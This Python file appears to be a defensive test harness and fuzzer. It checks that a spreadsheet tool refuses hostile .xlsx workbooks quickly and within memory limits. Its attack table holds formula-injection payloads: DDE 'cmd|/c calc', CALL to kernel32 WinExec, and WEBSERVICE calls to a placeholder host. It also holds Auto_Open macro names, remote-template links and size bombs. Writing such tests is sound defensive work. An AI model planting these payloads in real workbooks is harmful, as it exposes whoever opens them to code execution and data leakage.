"""Strangers' workbooks into every command that takes one: each gets an answer of ours, soon and in little memory.

Each attack changes a workbook of ours. ``python -m tests.attack.workbooks --cases 300 --seed 1`` also tries that
many random changes.
"""

import argparse
import json
import os
import random
import re
import resource
import sys
import tempfile
import warnings
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date
from decimal import Decimal
from functools import partial
from pathlib import Path

from xlremic.errors import XlremicError
from xlremic.functions.heal import healed
from xlremic.functions.hosts.lambda_names import portable
from xlremic.reading.parser import read
from xlremic.workbook import audit, headline
from xlremic.workbook.build import build
from xlremic.workbook.entering import Reported
from xlremic.workbook.history_columns import HISTORY
from xlremic.workbook.update import read_balances, updated_bytes
from xlremic.xlsx.package import BOOK, RELATIONS, TYPES, Package

SAMPLE = Path(__file__).parent.parent.parent / "samples" / "cmsi-2004-8.txt"
CPU_SECONDS, MEGABYTES = 5, 300
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office"
BALANCES = (
    "class,current_balance\nA,400000000\nB-1,5000000\nB-2,2000000\nB-3,1000000\nB-4,490000\nB-5,400000\nB-6,300000\n"
)

Change = Callable[[Package], Package]


@dataclass(frozen=True, slots=True)
class Attack:
    """A change of a workbook, a word of the refusal by check, update and send, and who refuses beside these."""

    change: Change
    word: str
    also: tuple[str, ...] = ("portable", "heal")


def swapped(part: str, old: str, new: str, count: int = 0) -> Change:
    """A part with a pattern replaced, which it must have."""

    def change(package: Package) -> Package:
        text, found = re.subn(old, new, package[part].decode(), count=count, flags=re.S)
        assert found, (part, old)
        return package.edited({part: text.encode()})

    return change


def in_sheet(sheet: str, old: str, new: str, count: int = 1) -> Change:
    return lambda package: swapped(package.sheets[sheet], old, new, count)(package)


def named(name: str, text: str) -> Change:
    """A defined name that refers to something else."""
    return swapped(BOOK, rf'(<definedName [^>]*name="{name}"[^>]*>)[^<]*', rf"\g<1>{text}")


def extra(**parts: bytes) -> Change:
    return lambda package: package.edited(parts)


def related(kind: str, target: str, *, mode: str = "", part: str = RELATIONS) -> Change:
    """A further relation of the book."""
    outside = f' TargetMode="{mode}"' if mode else ""
    one = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{outside}/>'
    return swapped(part, "</Relationships>", f"{one}</Relationships>")


def typed(part: str, kind: str) -> Change:
    return swapped(TYPES, "</Types>", f'<Override PartName="/{part}" ContentType="application/{kind}"/></Types>')


def formula(text: str, sheet: str = "Source", cell: str = "K40") -> Change:
    """A further cell with a formula."""
    row = int(re.sub(r"\D", "", cell))
    return in_sheet(sheet, rf'(<row r="{row}"[^>]*>.*?)</row>', rf'\1<c r="{cell}"><f>{text}</f><v>1</v></c></row>')


def rows(count: int) -> Change:
    many = "".join(f'<row r="{k}"/>' for k in range(1000, 1000 + count))
    return in_sheet("Source", "</sheetData>", f"{many}</sheetData>")


def many(element: str, count: int) -> Change:
    """Further elements behind the cells of a sheet."""
    return in_sheet(
        "Source", "</sheetData>", "</sheetData>" + "".join(element.replace("#", str(k)) for k in range(1, count))
    )


def exchanged(first: str, second: str) -> Change:
    """Two names each in the other's place."""
    return lambda package: swapped(BOOK, "~", second)(
        swapped(BOOK, f'"{second}"', f'"{first}"')(swapped(BOOK, f'"{first}"', '"~"')(package))
    )


def cut_short(package: Package, part: str) -> Package:
    return package.edited({part: package[part][:-9]})


ATTACKS: dict[str, Attack] = {
    "a part of 95 MB within the ratio": Attack(
        lambda package: package.edited({"xl/media.xml": b"<x>" + random.Random(5).randbytes(600_000).hex().encode() * 79 + b"</x>"}), "expands"
    ),
    "a million rows": Attack(rows(1_000_000), "row|elements"),
    "a hundred thousand cells of nothing": Attack(many('<x r="#"/>', 100_000), "elements"),
    "65,000 merged ranges": Attack(many('<mergeCells><mergeCell ref="A#:B#"/></mergeCells>', 65_000), "mergeCell"),
    "one merged range of a whole sheet": Attack(many('<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>', 2), "too many cells"),
    "a link over a whole sheet": Attack(many('<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>', 2), "too many cells"),
    "100,000 conditional formats": Attack(
        many('<conditionalFormatting sqref="A#"><cfRule type="expression" priority="1"><formula>1</formula></cfRule></conditionalFormatting>', 100_000),
        "conditionalFormatting",
    ),
    "cells in opposite corners": Attack(in_sheet("Source", "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'), "too far apart"),
    "a range stated as the whole sheet": Attack(in_sheet("Source", '<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"'), "too many cells"),
    "a cell in no column": Attack(in_sheet("Source", 'r="A9"', 'r="AAAAA9"'), "outside"),
    "a text without an end": Attack(in_sheet("Source", "</t>", "x" * 3_000_000 + "</t>"), "without an end"),
    "comments that split a formula": Attack(formula("WEB<!-- -->SERVICE(A1)"), "hides"),
    "CDATA around a formula": Attack(formula("<![CDATA[WEBSERVICE(A1)]]>"), "hides"),
    "WEBSERVICE": Attack(formula('WEBSERVICE("http://x.example/"&amp;A1)'), "reaches outside"),
    "WEBSERVICE with a letter by number": Attack(formula('WEBSERVI&#67;E("http://x.example/")'), "reaches outside"),
    "WEBSERVICE in a name": Attack(named("DealTitle", 'WEBSERVICE("http://x.example/")'), "reaches outside"),
    "RTD": Attack(formula('RTD("prog.id",,"x")'), "reaches outside"),
    "DDE": Attack(formula("cmd|'/c calc'!A1"), "another program"),
    "a formula over another file": Attack(formula("[1]Sheet1!A1"), "another file", also=("portable",)),
    "a formula over a file by its path": Attack(formula("'\\\\\\\\\\\\\\\\host\\\\share\\\\[x.xlsx]S'!A1"), "another file", also=("portable",)),
    "CALL of a library": Attack(formula('CALL("kernel32","WinExec","JC","calc",1)'), "reaches outside"),
    "a name that runs when opened": Attack(swapped(BOOK, "<definedNames>", '<definedNames><definedName name="Auto_Open">Source!$A$1</definedName>'), "macro to run"),
    "a name that runs, spelt by number": Attack(swapped(BOOK, "<definedNames>", '<definedNames><definedName name="&#65;uto_Open2">Source!$A$1</definedName>'), "macro to run"),
    "a sheet of old macros": Attack(extra(**{"xl/macrosheets/sheet1.xml": b"<x/>"}), "active"),
    "a sheet of old macros under another name": Attack(related(f"{MICROSOFT}/2006/relationships/xlMacrosheet", "worksheets/sheet1.xml"), "active"),
    "macros under another name": Attack(related(f"{MICROSOFT}/2006/relationships/vbaProject", "theme/theme1.xml"), "active"),
    "a book that may hold macros": Attack(typed("xl/workbook.xml", "vnd.ms-excel.sheet.macroEnabled.main+xml"), "active"),
    "connections": Attack(extra(**{"xl/connections.xml": b"<connections/>"}), "active"),
    "a query table": Attack(extra(**{"xl/queryTables/queryTable1.xml": b"<queryTable/>"}), "active"),
    "a web extension": Attack(extra(**{"xl/webextensions/webextension1.xml": b"<x/>"}), "active"),
    "links in a folder of another case": Attack(extra(**{"xl/EXTERNALLINKS/externalLink1.xml": b"<x/>"}), "active", also=("portable",)),
    "a picture from elsewhere": Attack(related(f"{OFFICE}/image", "http://x.example/a.png", mode="External"), "outside itself"),
    "a template from elsewhere": Attack(related(f"{OFFICE}/attachedTemplate", "file://host/share/t.xltx", mode="External"), "outside itself"),
    "a link to another computer's file": Attack(related(f"{OFFICE}/hyperlink", "file:////host/share", mode="External"), "outside itself"),
    "a book elsewhere": Attack(related(f"{OFFICE}/officeDocument", "xl/other.xml", part="_rels/.rels"), "where it belongs"),
    "a macro on a drawing": Attack(swapped("xl/drawings/drawing1.xml", "(<(?:xdr:)?graphicFrame)", r'\1 macro="[0]!Run"'), "macro to run"),
    "a program as a part": Attack(extra(**{"xl/media/x.exe": b"MZ\x90\x00"}), "UTF-8|well-formed"),
    "a sheet that no menu shows": Attack(swapped(BOOK, r'(name="Pools" sheetId="\d+" state=)"visible"', r'\1"veryHidden"'), "no menu"),
    "a name of one sheet that shadows ours": Attack(
        swapped(BOOK, "<definedNames>", '<definedNames><definedName name="CurrentBalances" localSheetId="4">Tranches!$C$9:$C$15</definedName>'), "second time", also=()
    ),
    "a name twice in another case": Attack(swapped(BOOK, "<definedNames>", '<definedNames><definedName name="CALLABLE">Call!$B$7</definedName>'), "second time|belongs", also=()),
    "names exchanged": Attack(exchanged("CurrentBalances", "InitialBalances"), "belongs", also=()),
    "levels exchanged": Attack(exchanged("SubordinationLevels", "SubordinationLevelsAtIssue"), "belongs", also=()),
    "a name on another column": Attack(named("CurrentBalances", "Tranches!$C$9:$C$15"), "belongs", also=()),
    "a name of another cell": Attack(named("CallPercent", "Call!$B$16"), "belongs", also=()),
    "history elsewhere": Attack(named("History", f"History!$A$30:${HISTORY.letters[-1]}$30"), "belongs", also=()),
    "history on another sheet": Attack(named("History", f"Source!$A$8:${HISTORY.letters[-1]}$8"), "not to sheet", also=()),
    "a name shorter than the classes": Attack(named("CurrentBalances", "Tranches!$D$9:$D$12"), "side by side", also=()),
    "all names a line lower": Attack(named("(?:CurrentBalances)", "Tranches!$D$10:$D$16"), "side by side", also=()),
    **{
        f"a name that is {what}": Attack(named("CurrentBalances", text), "not a range of cells", also=())
        for what, text in {
            "a whole sheet by columns": "Tranches!$A:$XFD", "a whole column": "Tranches!$D:$D", "whole rows": "Tranches!$9:$15",
            "#REF!": "Tranches!#REF!", "a union": "Tranches!$D$9:$D$12,Tranches!$D$13:$D$15", "OFFSET": "OFFSET(Tranches!$D$9,0,0,7,1)",
            "a constant": "481546830", "one cell": "Tranches!$D$9", "text": '"x"', "nothing": "", "another name": "InitialBalances",
        }.items()
    },
    "a name that spans a whole sheet": Attack(named("CurrentBalances", "Tranches!$A$1:$XFD$1048576"), "columns", also=()),
    "a range where a cell belongs": Attack(named("AsOfDate", "Call!$B$7:$B$9"), "not one cell", also=()),
    "a name of a sheet that is not there": Attack(named("Classes", "Nowhere!$A$9:$A$15"), "not to sheet", also=()),
    "a sheet without a part": Attack(swapped(RELATIONS, "worksheets/sheet3.xml", "worksheets/sheet99.xml"), "no part", also=("portable",)),
    "two sheets of one part": Attack(swapped(RELATIONS, "worksheets/sheet3.xml", "worksheets/sheet2.xml"), "no part", also=("portable",)),
    "a shared text that is not there": Attack(in_sheet("Tranches", '<c r="H9"([^>]*)>(<f>[^<]*</f>)<v>[^<]*', r'<c r="H9"\1 t="s">\2<v>99'), "shared text|damaged", also=("portable",)),
    "a word where a number belongs": Attack(in_sheet("Tranches", '(<c r="H9"[^>]*><f>[^<]*</f><v>)[^<]*', r"\1many"), "number|damaged", also=("portable",)),
    **{
        f"not well-formed: {part}": Attack(partial(cut_short, part=part), "well-formed")
        for part in (BOOK, RELATIONS, TYPES, "_rels/.rels", "xl/styles.xml", "xl/theme/theme1.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet5.xml",
                     "xl/charts/chart1.xml", "xl/drawings/drawing1.xml", "docProps/core.xml", "docProps/app.xml", "docProps/custom.xml")
    },
}  # fmt: skip

ONLY_UPDATE: dict[str, Attack] = {
    "an input that is a formula": Attack(
        in_sheet("Tranches", '(<c r="D9"[^>]*>)(<v>)', r"\1<f>C9*0.5</f>\2"), "holds a formula", also=()
    ),
    "a day that is a formula": Attack(
        in_sheet("Call", '(<c r="B7"[^>]*>)(<v>)', r"\1<f>38261+0</f>\2"), "holds a formula", also=()
    ),
}
"""Changes that a person may make, but that an update must not write over."""


def commands(data: bytes) -> dict[str, Callable[[], object]]:
    """What each command does with the bytes of a workbook; other engines than the embedded one are left out."""
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "balances.csv").write_text(BALANCES)
        balances = read_balances(Path(folder) / "balances.csv")

    def check() -> object:
        vars(audit).update(dict.fromkeys(("ironcalc_values", "libreoffice_values"), lambda *_: None))
        with tempfile.NamedTemporaryFile(suffix=".xlsx") as file:
            Path(file.name).write_bytes(data)
            return audit.audit(file.name)

    def send() -> object:
        book = headline.headline_book(data)
        return headline.glance_of(book), headline.faults(data, book)

    day, said = date(2006, 3, 25), Reported(cumulative_losses=Decimal(100_000))
    return {
        "check": check,
        "update": lambda: updated_bytes(data, Path("deal.xlsx"), balances, day, said, allow_increase=False),
        "send": send,
        "portable": lambda: portable(data),
        "heal": lambda: healed(data),
    }


@dataclass(frozen=True, slots=True)
class Answer:
    """What came of a call: "done", "refused: why", "traceback: which" or "killed"; seconds of CPU; megabytes."""

    says: str
    seconds: float
    megabytes: float

    @property
    def kind(self) -> str:
        return self.says.partition(":")[0]


def answer(work: Callable[[], object]) -> Answer:
    """Call in a process of its own, which the system ends when it takes too long."""
    reading, writing = os.pipe()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        process = os.fork()
    if process == 0:
        resource.setrlimit(resource.RLIMIT_CPU, (4 * CPU_SECONDS, 4 * CPU_SECONDS))  # a machine may be busy
        try:
            work()
            says = "done"
        except XlremicError as error:
            says = f"refused: {error}"
        except BaseException as error:  # noqa: BLE001 - that is what is looked for
            says = f"traceback: {type(error).__name__}: {error}"
        os.write(writing, says.encode(errors="replace")[:4000])
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as pipe:
        says = pipe.read().decode()
    _, _, used = os.wait4(process, 0)
    return Answer(says or "killed", used.ru_utime + used.ru_stime, used.ru_maxrss / 1024)


def mutated(package: Package, seed: int) -> Package:
    """The workbook with one to three random changes of its XML."""
    rng = random.Random(seed)
    for _ in range(rng.randint(1, 3)):
        part = rng.choice([name for name in package.parts if name.endswith((".xml", ".rels"))])
        text = package[part].decode(errors="replace")
        tags = list(re.finditer(r"<[^<>]+>", text))
        if not tags:
            continue  # cut to nothing before
        one, other = rng.choice(tags), rng.choice(tags)
        kind = rng.choice(["drop", "double", "exchange", "number", "attribute", "text", "byte", "cut"])
        if kind == "drop":
            text = text[: one.start()] + text[one.end() :]
        elif kind == "double":
            text = text[: one.end()] + one[0] + text[one.end() :]
        elif kind == "exchange":
            text = text.replace(one[0], "\0", 1).replace(other[0], one[0], 1).replace("\0", other[0], 1)
        elif kind == "number":
            numbers = list(re.finditer(r"\d+", text))
            at = rng.choice(numbers) if numbers else one
            text = (
                text[: at.start()]
                + rng.choice(["0", "-1", "1e999", "99999999999", "NaN", "", "1048577"])
                + text[at.end() :]
            )
        elif kind == "attribute":
            text = (
                text[: one.start()]
                + re.sub(r'="[^"]*"', f'="{rng.choice(["", "0", "x", "-1", "A1:XFD9"])}"', one[0], count=1)
                + text[one.end() :]
            )
        elif kind == "text":
            text = text[: one.end()] + rng.choice(["x", "=1/0", "&amp;", "\u202e", "9" * 400]) + text[one.end() :]
        elif kind == "byte":
            place = rng.randrange(len(text))
            text = text[:place] + chr(rng.randrange(32, 255)) + text[place + 1 :]
        else:
            text = text[: rng.randrange(len(text))]
        package = package.edited({part: text.encode()})
    return package


def ours() -> Package:
    with tempfile.TemporaryDirectory() as folder:
        return Package.of(build(read(SAMPLE), Path(folder) / "deal.xlsx", projection=False).path.read_bytes())


def answers(cases: int, seed: int) -> Iterator[tuple[str, str, Answer]]:
    """Every attack and that many random changes into every command: the change, the command and its answer."""
    package = ours()
    changes: dict[str, Change] = {name: one.change for name, one in (ATTACKS | ONLY_UPDATE).items()}
    changes |= {f"random change {number}": partial(mutated, seed=number) for number in range(seed, seed + cases)}
    for name, change in changes.items():
        for command, work in commands(change(package).to_bytes()).items():
            yield name, command, answer(work)


def is_wrong(found: Answer) -> bool:
    return found.kind not in ("done", "refused") or found.seconds > CPU_SECONDS or found.megabytes > MEGABYTES


@dataclass
class Tally:
    """How many workbooks were tried, what each command said to them, what was wrong, and the most that any took."""

    workbooks: int = 0
    said: Counter[str] = field(default_factory=Counter)
    faults: list[str] = field(default_factory=list)
    seconds: float = 0.0
    megabytes: float = 0.0


def attack(cases: int, seed: int) -> Tally:
    """Every attack and that many random changes, counted."""
    tally, names = Tally(), set[str]()
    for name, command, found in answers(cases, seed):
        names.add(name)
        tally.said[f"{command} {found.kind}"] += 1
        tally.seconds, tally.megabytes = max(tally.seconds, found.seconds), max(tally.megabytes, found.megabytes)
        if is_wrong(found):
            tally.faults.append(f"{name}: {command}: {found}")
    tally.workbooks = len(names)
    return tally


def main() -> int:
    """The attack from the command line; exit code 1 if anything was a fault."""
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--cases", type=int, default=0)
    options.add_argument("--seed", type=int, default=1)
    options.add_argument("--json", action="store_true", help="print the counts for a program")
    given = options.parse_args()
    tally = attack(given.cases, given.seed)
    if given.json:
        print(json.dumps(vars(tally)))
        return bool(tally.faults)
    for said, number in sorted(tally.said.items()):
        print(f"{said:20}{number:6}")
    print(*tally.faults, sep="\n")
    print(f"{tally.workbooks} workbooks; at most {tally.seconds:.1f} s of CPU and {tally.megabytes:.0f} MB")
    return bool(tally.faults)


if __name__ == "__main__":
    sys.exit(main())
